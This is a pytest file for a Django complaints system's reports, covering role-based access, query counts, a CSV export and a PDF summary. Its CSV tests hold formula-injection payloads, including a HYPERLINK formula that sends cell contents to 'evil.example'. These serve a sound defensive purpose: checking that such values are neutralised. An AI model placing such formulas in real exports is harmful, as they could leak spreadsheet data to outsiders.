"""The reports pages: who may see them, what they show, their queries, the CSV export and the PDF."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cases.models import Category, Complaint
from reports.export import neutralise
from tests.factories import ComplaintFactory, UserFactory, director, lead, manager

pytestmark = pytest.mark.django_db

LONDON = ZoneInfo("Europe/London")
NOW = dt.datetime(2026, 11, 30, 12, 0, tzinfo=LONDON)
REPORT = reverse("reports:report")
TREND = reverse("reports:trend")
EXPORT = reverse("reports:export")
NOVEMBER = {"period": "month", "year": 2026, "month": 11}


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def answered(day: int, **fields) -> Complaint:
    received = dt.datetime(2026, 11, day, 10, 0, tzinfo=LONDON)
    values = {
        "status": Complaint.Status.RESPONDED,
        "received_at": received,
        "acknowledgement_due": dt.date(2026, 11, day) + dt.timedelta(days=2),
        "acknowledged_at": received,
        "outcome_due": dt.date(2026, 11, day) + dt.timedelta(days=14),
        "responded_at": received + dt.timedelta(days=3),
        "outcome": "upheld",
    }
    values.update(fields)
    return ComplaintFactory(**values)


def reads(queries) -> list[str]:
    """The statements that read data: not the transaction and SET LOCAL of the report on PostgreSQL."""
    control = ("SAVEPOINT", "RELEASE SAVEPOINT", "BEGIN", "COMMIT", "SET LOCAL")
    return [q["sql"] for q in queries.captured_queries if not q["sql"].startswith(control)]


def text(response) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", response.content.decode()).split())


# --- who may see the reports ---------------------------------------------------------------------


@pytest.mark.parametrize("url", [REPORT, TREND, EXPORT, reverse("reports:annual_pdf", args=[2026])])
def test_managers_and_staff_without_a_role_are_refused(client, url):
    client.force_login(manager())
    assert client.get(url).status_code == 403
    client.force_login(UserFactory())  # staff flag, no group
    assert client.get(url).status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(REPORT)
    assert response.status_code == 302
    assert "/staff/login/" in response["Location"]


@pytest.mark.parametrize("make_user", [lead, director])
def test_leads_and_directors_see_the_reports_and_the_nav_link(client, make_user):
    client.force_login(make_user())
    response = client.get(REPORT)
    assert response.status_code == 200
    assert f'href="{REPORT}">Reports</a>' in response.content.decode()


def test_a_manager_has_no_reports_link(client):
    client.force_login(manager())
    assert f'href="{REPORT}"' not in client.get(reverse("staff:home")).content.decode()


# --- the page --------------------------------------------------------------------------------------


def test_page_shows_the_figures_with_svg_charts_and_accessible_tables(client):
    answered(2, channel="phone")
    answered(3, responded_at=dt.datetime(2026, 11, 27, 10, tzinfo=LONDON), outcome_due=dt.date(2026, 11, 20))
    client.force_login(lead())

    response = client.get(REPORT, NOVEMBER)
    page = response.content.decode()

    assert response.status_code == 200
    assert "November 2026" in text(response)
    assert "Complaints received: 2" in text(response)
    assert "50.0% on time" in text(response)  # one answer on time, one late
    assert page.count("<svg") >= 8
    assert page.count("<caption") >= 8
    assert 'scope="row"' in page
    # Nothing a strict CSP would block.
    assert "<style" not in page
    assert "<script" not in page
    assert "style=" not in page


def test_custom_period_must_end_after_it_starts(client):
    client.force_login(lead())
    response = client.get(REPORT, {"period": "custom", "date_from": "2026-11-10", "date_to": "2026-11-01"})
    assert response.status_code == 400
    assert "must end on or after" in text(response)


def test_page_queries_do_not_grow_with_the_number_of_cases(client):
    client.force_login(lead())
    answered(2)
    client.get(REPORT, NOVEMBER)  # warm-up: the calendar's closure days are read once per process
    with CaptureQueriesContext(connection) as few:
        assert client.get(REPORT, NOVEMBER).status_code == 200
    for day in range(3, 28):
        answered(day, channel="email", category=Category.objects.get_or_create(name=f"Category {day % 4}")[0])
    with CaptureQueriesContext(connection) as many:
        response = client.get(REPORT, NOVEMBER)
    assert "Complaints received: 26" in text(response)
    assert len(reads(many)) == len(reads(few))
    assert len(reads(many)) <= 11


def test_trend_lists_twelve_months_from_one_query_per_table(client):
    client.force_login(lead())
    answered(2)
    answered(3)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(TREND)
    body = text(response)
    assert response.status_code == 200
    assert "Dec 2025" in body
    assert "Nov 2026 2 " in body
    assert len(reads(queries)) <= 11


# --- CSV export --------------------------------------------------------------------------------------


HOSTILE = ['=HYPERLINK("http://x")', "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_every_formula_start_with_a_quote(value):
    assert neutralise(value) == "'" + value


def test_neutralise_leaves_ordinary_values_alone():
    assert neutralise("Billing") == "Billing"
    assert neutralise(None) == ""
    assert neutralise(dt.date(2026, 11, 3)) == "2026-11-03"


def test_export_streams_the_cases_behind_a_figure_with_hostile_values_neutralised(client):
    evil = Category.objects.create(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    answered(2, category=evil, reference="JPD-2026-00001-A", assignee=manager(username="@SUM(1+1)"))
    answered(3, reference="JPD-2026-00002-B", outcome="not_upheld")
    client.force_login(lead())

    response = client.get(EXPORT, {**NOVEMBER, "figure": "outcome_upheld"})

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, body = rows[0], rows[1:]
    assert [row[0] for row in body] == ["JPD-2026-00001-A"]  # the not-upheld case is not behind this figure
    row = dict(zip(header, body[0], strict=True))
    assert row["Category"] == "'" + evil.name
    assert row["Manager"] == "'@SUM(1+1)"
    assert row["Outcome"] == "upheld"
    assert row["Acknowledged on time"] == "on time"
    assert row["Answered on time"] == "on time"
    assert row["Outcome extended"] == "no"
    assert row["Business days to outcome"] == "3"  # Mon 2 -> Thu 5 Nov
    for cell in (cell for line in body for cell in line):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_of_an_unknown_figure_is_404(client):
    client.force_login(lead())
    assert client.get(EXPORT, {**NOVEMBER, "figure": "salaries"}).status_code == 404


# --- annual summary PDF --------------------------------------------------------------------------------


def test_annual_summary_is_a_pdf_with_the_year_in_its_name(client):
    answered(2)
    client.force_login(director())
    response = client.get(reverse("reports:annual_pdf", args=[2026]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert "complaint-handling-summary-2026.pdf" in response["Content-Disposition"]
